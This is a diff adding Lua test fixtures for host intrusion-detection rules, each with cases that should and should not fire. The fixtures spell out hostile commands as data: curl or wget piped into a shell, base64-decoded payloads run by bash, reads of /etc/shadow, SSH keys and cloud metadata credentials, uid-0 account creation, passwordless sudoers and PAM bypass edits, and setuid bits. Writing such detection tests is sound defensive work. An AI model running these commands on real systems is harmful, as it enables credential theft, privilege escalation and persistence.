@@ -409,6 +409,259 @@ script("who-ran-what", {
   },
 })
 
+local function crash(times, fields)
+  return function(host)
+    for _ = 1, times do
+      local process = host:process { comm = "served", exe = "/usr/bin/served", args = { "served" }, euid = 7,
+        parent = ancestors(host, { fields.under or "systemd" }) }
+      host:exit(process, { signal = fields.signal, core = fields.core, code = fields.code })
+      host:advance(fields.every or 10)
+    end
+  end
+end
+
+script("crash-loop", {
+  hits = {
+    ["three crashes within ten minutes"] = { crash(3, { signal = 11, core = true }), says = "SIGSEGV" },
+    ["aborts"] = crash(3, { signal = 6 }),
+    ["two when asked for"] = { crash(2, { signal = 7 }), options = { crashes = 2 } },
+  },
+  misses = {
+    ["two crashes"] = crash(2, { signal = 11 }),
+    ["a crash each day"] = crash(9, { signal = 11, every = 86400 }),
+    ["one that is ended"] = crash(9, { signal = 15 }),
+    ["one that fails"] = crash(9, { code = 1 }),
+    ["a fuzzer's"] = crash(9, { signal = 11, under = "afl-fuzz" }),
+  },
+})
+
+local function forks(count, fields)
+  return function(host)
+    local parent = ancestors(host, { "sshd", "bash" })
+    for i = 1, count do
+      local child = { comm = "bash", uid = 1000, sid = fields.sid and fields.sid(i) or 5, parent = parent }
+      host:feed("fork", host:process(child))
+      if fields.ends then
+        host:exit(child, { code = 0 })
+      end
+      host:advance(fields.every or 0.001)
+    end
+  end
+end
+
+local function storm(fields)
+  return function(host)
+    fields.pid = host:process { comm = "x", parent = ancestors(host, { "bash" }) }.pid
+    fields.phase, fields.uid, fields.sid = "sum", 1000, 5
+    host:feed("storm", fields)
+  end
+end
+
+script("fork-bomb", {
+  hits = {
+    ["a session that grows"] = { forks(400, {}), severity = "high", says = "400 processes more" },
+    ["fewer when asked for"] = { forks(50, {}), options = { grown = 50 } },
+    ["many children of one name in a storm"] = { storm { children = 900, distinct = 1 }, says = "a storm" },
+  },
+  misses = {
+    ["a build, whose processes end"] = forks(3000, { ends = true }),
+    ["slow growth"] = forks(900, { every = 0.1 }),
+    ["many sessions"] = forks(900, { sid = function(i) return i end }),
+    ["many children of many names in a storm"] = storm { children = 900, distinct = 40 },
+  },
+})
+
+local function commands(lines, fields)
+  return function(host)
+    local shell = ancestors(host, fields and fields.under or { "sshd", "bash" })
+    for i, line in ipairs(lines) do
+      local args = {}
+      for word in line:gmatch "%S+" do
+        args[#args + 1] = word
+      end
+      host:exec(shell, args, { sid = fields and fields.sids and i or 77 })
+      host:advance(fields and fields.every or 1)
+    end
+  end
+end
+
+local looks = { "whoami", "id", "uname -a", "cat /etc/passwd", "ip addr", "ps aux", "sudo -l", "find / -perm -4000",
+  "w" }
+
+script("recon-burst", {
+  hits = {
+    ["many questions of one session"] = { commands(looks), severity = "medium", says = "whoami" },
+    ["fewer when asked for"] = { commands { "id", "w", "ps" }, options = { commands = 3 } },
+  },
+  misses = {
+    ["the same question again and again"] = commands { "ps a", "ps a", "ps a", "ps a", "ps a", "ps a", "ps a",
+      "ps a", "ps a" },
+    ["many sessions"] = commands(looks, { sids = true }),
+    ["questions over an hour"] = commands(looks, { every = 600 }),
+    ["an inventory"] = commands(looks, { under = { "systemd", "facter" } }),
+    ["work"] = commands { "make", "gcc x.c", "cat x.c", "ls", "git status", "vi x.c", "rm x.o", "grep x y", "tar c x" },
+  },
+})
+
+local function steps(list, fields)
+  return function(host)
+    local shell = ancestors(host, { "sshd", "bash" })
+    for _, args in ipairs(list) do
+      local exe = args[1]:find "^%./" and "/home/u/" .. args[1]:sub(3) or nil
+      host:exec(shell, args, { sid = 77, exe = exe })
+      host:advance(fields and fields.every or 1)
+    end
+  end
+end
+
+script("download-and-execute", {
+  hits = {
+    ["a script that was fetched"] = { steps { { "curl", "-sO", "https://x/atomic.sh" }, { "chmod", "+x", "atomic.sh" },
+      { "bash", "atomic.sh" } }, severity = "high", says = "curl" },
+    ["a program behind -o"] = steps { { "curl", "-s", "http://x/1", "-o", "/tmp/.k" }, { "/tmp/.k" } },
+    ["a program of wget"] = steps { { "wget", "-q", "http://x/a/miner?x=1" }, { "./miner" } },
+    ["a file of wget -O"] = steps { { "wget", "-O", "/tmp/x", "http://h/y" }, { "sh", "/tmp/x" } },
+    ["a copy by scp"] = steps { { "scp", "u@h:/tmp/tool", "." }, { "./tool" } },
+    ["curl into a shell"] = { sh "curl -s https://x/pipe-to-shell.sh |bash", severity = "medium" },
+    ["wget into a shell with arguments"] = sh "wget -qO- http://x | sh -s -- -y",
+    ["curl into sudo"] = sh "curl -s http://x | sudo bash",
+    ["what was decoded"] = { exec { "bash", "-c", "echo aWQ= | base64 -d | bash" }, says = "decoded" },
+  },
+  misses = {
+    ["a download that is read"] = steps { { "curl", "-sO", "https://x/a.tar" }, { "tar", "xf", "a.tar" } },
+    ["another script"] = steps { { "curl", "-sO", "https://x/a.sh" }, { "bash", "b.sh" } },
+    ["the same name, but later"] = steps({ { "curl", "-O", "https://x/a.sh" }, { "bash", "a.sh" } }, { every = 3600 }),
+    ["a download without a file"] = steps { { "curl", "https://x/api" }, { "jq", "." } },
+    ["curl into another program"] = sh "curl -s http://x | jq .name",
+    ["a shell that comes later"] = sh "curl -s http://x | tar x; bash build.sh",
+    ["a shell script that reads what is decoded"] = sh "echo aWQ= | base64 -d > x; sh y",
+    ["decoding"] = sh "base64 -d x",
+    ["what is left out"] = { sh "curl https://sh.rustup.rs | sh", options = { ignore = { "sh.rustup.rs" } } },
+  },
+})
+
+script("kernel-module", {
+  hits = {
+    ["insmod"] = { exec { "insmod", "/tmp/T1547006.ko" }, severity = "critical" },
+    ["modprobe from a shell"] = { exec { "modprobe", "diamorphine" }, severity = "medium" },
+    ["kmod"] = exec({ "kmod", "insert", "x" }, {}) and exec { "insmod", "x" },
+    ["a file through udev"] = exec({ "insmod", "./x.ko" }, { under = { "systemd-udevd" } }),
+    ["removal"] = { exec { "rmmod", "nf_tables" }, severity = "low" },
+    ["modprobe of busybox"] = exec({ "busybox", "modprobe", "x" }, { comm = "busybox" }),
+  },
+  misses = {
+    ["a list"] = exec({ "lsmod" }, { exe = "/usr/bin/kmod" }),
+    ["a list of kmod"] = exec { "kmod", "list" },
+    ["udev"] = exec({ "modprobe", "-b", "usbhid" }, { under = { "systemd", "systemd-udevd" } }),
+    ["the kernel"] = exec({ "modprobe", "-q", "--", "net-pf-10" }, { under = { "kthreadd" } }),
+    ["what would be loaded"] = exec { "modprobe", "-n", "-v", "x" },
+    ["removal when it is not asked for"] = { exec { "rmmod", "x" }, options = { remove = false } },
+  },
+})
+
+local function env(name, value)
+  return { answers = { environ = { { name = "HOME", value = "/" }, { name = name, value = value } } } }
+end
+
+script("ld-preload", {
+  hits = {
+    ["a library in /tmp"] = { exec({ "ls" }, env("LD_PRELOAD", "/tmp/T1574006.so")), severity = "high" },
+    ["the second of two"] = exec({ "ls" }, env("LD_PRELOAD", "libc.so.6:./x.so")),
+    ["an audit library"] = exec({ "ls" }, env("LD_AUDIT", "/home/u/a.so")),
+    ["a shell's text"] = sh "LD_PRELOAD=/tmp/T1574006.so ls",
+    ["env"] = exec { "env", "LD_PRELOAD=/dev/shm/x.so", "ls" },
+  },
+  misses = {
+    ["a library of the system"] = exec({ "ls" }, env("LD_PRELOAD", "/usr/lib/libfakeroot.so")),
+    ["one without a directory"] = exec({ "ls" }, env("LD_PRELOAD", "libeatmydata.so")),
+    ["another variable"] = exec({ "ls" }, env("LD_LIBRARY_PATH", "/tmp/x")),
+    ["an empty one"] = exec({ "ls" }, env("LD_PRELOAD", "")),
+    ["one that cannot be asked"] = exec { "ls" },
+    ["what is beyond the limit"] = { function(host)
+      exec({ "ls" }, env("HOME", "/"))(host)
+      exec({ "ls" }, env("LD_PRELOAD", "/tmp/x.so"))(host)
+    end, options = { per_second = 1 } },
+    ["what is left out"] = { exec({ "ls" }, env("LD_PRELOAD", "/home/u/lib/x.so")),
+      options = { ignore = { "/home/u/lib" } } },
+  },
+})
+
+script("credential-files", {
+  hits = {
+    ["cat of shadow"] = { exec { "cat", "/etc/shadow" }, severity = "high", says = "/etc/shadow" },
+    ["a path with dots"] = exec { "cat", "../../../../etc/shadow" },
+    ["a shell that reads shadow itself"] = sh 'testcat(){ while read l; do echo "$l"; done < /etc/shadow; }',
+    ["a search for keys"] = exec { "find", "/", "-name", "id_rsa" },
+    ["a key that is packed"] = exec { "tar", "cz", "/home/u/.ssh/id_ed25519" },
+    ["the cloud's credentials"] = exec { "find", "//.aws", "-name", "credentials", "-type", "f" },
+    ["the metadata service"] = exec { "curl", "-s",
+      "http://169.254.169.254/latest/meta-data/iam/security-credentials/" },
+    ["memory of another process"] = exec { "dd", "if=/proc/4711/mem", "of=/tmp/x" },
+    ["a known tool"] = exec { "python3", "/tmp/LaZagne/Linux/laZagne.py", "browsers" },
+    ["a token of kubernetes"] = exec { "cat", "/run/secrets/kubernetes.io/serviceaccount/token" },
+    ["a file that one adds"] = { exec { "cat", "/srv/token.txt" }, options = { files = { "/srv/token" } } },
+  },
+  misses = {
+    ["ssh that uses a key"] = exec { "ssh", "-i", "/home/u/.ssh/id_rsa", "h" },
+    ["a key that is made"] = exec { "ssh-keygen", "-t", "ed25519", "-f", "/home/u/.ssh/id_ed25519" },
+    ["a public key"] = exec { "cat", "/home/u/.ssh/id_rsa.pub" },
+    ["passwd"] = exec { "cat", "/etc/passwd" },
+    ["a backup"] = exec({ "cp", "/etc/shadow", "/var/backups/" }, { under = { "cron", "rsnapshot" } }),
+    ["a program of that name"] = exec { "/usr/bin/shadowconfig", "on" },
+    ["memory statistics"] = exec { "cat", "/proc/meminfo" },
+  },
+})
+
+script("account-commands", {
+  hits = {
+    ["an account"] = { exec { "useradd", "-M", "-N", "-r", "-s", "/bin/bash", "-c", "evil_account", "evil_user" },
+      severity = "medium" },
+    ["one in root's group"] = { exec { "useradd", "-g", "0", "-M", "-d", "/root", "-s", "/bin/bash", "butter" },
+      severity = "high" },
+    ["one with root's id"] = { exec { "useradd", "-o", "-u", "0", "toor" }, severity = "high" },
+    ["sudo's group"] = { exec { "usermod", "-aG", "sudo", "art" }, severity = "high" },
+    ["adduser to a group"] = { exec { "adduser", "art", "sudo" }, severity = "high" },
+    ["a shell for nobody"] = exec { "chsh", "--shell", "/bin/bash", "nobody" },
+    ["a password of another"] = exec { "passwd", "ARTUser" },
+    ["passwords from the input"] = exec { "chpasswd" },
+    ["sudoers by a shell"] = { sh "echo 'art ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers", severity = "high" },
+    ["sudoers in place"] = exec { "sed", "-i", "s/env_reset.*$/env_reset,timestamp_timeout=-1/", "/etc/sudoers" },
+    ["a rule of PAM"] = exec { "sed", "-i", "1s,^,auth sufficient pam_succeed_if.so uid >= 0\n,g", "/etc/pam.d/su-l" },
+    ["an account of FreeBSD's kind"] = exec { "pw", "useradd", "evil_user", "-s", "/usr/sbin/nologin" },
+  },
+  misses = {
+    ["a package"] = exec({ "useradd", "--system", "postgres" }, { under = { "apt-get", "dpkg",
+      "postgresql.postinst" } }),
+    ["the defaults"] = exec { "useradd", "-D" },
+    ["one's own password"] = exec { "passwd" },
+    ["a state that is asked for"] = exec { "passwd", "-S", "root" },
+    ["a check of sudoers"] = exec { "visudo", "-c", "-f", "/etc/sudoers" },
+    ["accounts that are read"] = exec { "getent", "passwd" },
+  },
+})
+
+script("setuid-bit", {
+  hits = {
+    ["chmod u+s"] = { exec { "chmod", "u+s", "/tmp/hello" }, severity = "high" },
+    ["more bits at once"] = exec { "chmod", "u+xs", "/tmp/evilBinary" },
+    ["an octal mode"] = exec { "chmod", "4755", "/tmp/x" },
+    ["setgid"] = { exec { "chmod", "g+xs", "/tmp/evilBinary" }, severity = "low" },
+    ["a plus alone"] = exec { "chmod", "+s", "/tmp/x" },
+    ["install"] = exec { "install", "-m", "4755", "x", "/usr/local/bin/x" },
+    ["capabilities"] = { exec { "setcap", "cap_setuid=ep", "/tmp/cap" }, severity = "high" },
+    ["a search for such files"] = { exec { "find", "/usr/bin", "-perm", "-4000" }, severity = "low" },
+  },
+  misses = {
+    ["another mode"] = exec { "chmod", "0755", "/tmp/x" },
+    ["a symbolic mode"] = exec { "chmod", "u+rwx,g-s", "x" },
+    ["a directory of a group"] = exec { "chmod", "2775", "/srv/git" },
+    ["a package"] = exec({ "chmod", "4755", "/usr/bin/x" }, { under = { "apt-get", "dpkg", "x.postinst" } }),
+    ["a search for other modes"] = exec { "find", "/", "-perm", "-o+w" },
+    ["a file named so"] = exec { "chmod", "a+r", "usr" },
+    ["searches when they are not asked for"] = { exec { "find", "/", "-perm", "-4000" }, options = { look = false } },
+  },
+})
+
 -- --- all of them ------------------------------------------------------------------------------------
 
 local scripts_table = require "scripts_table"
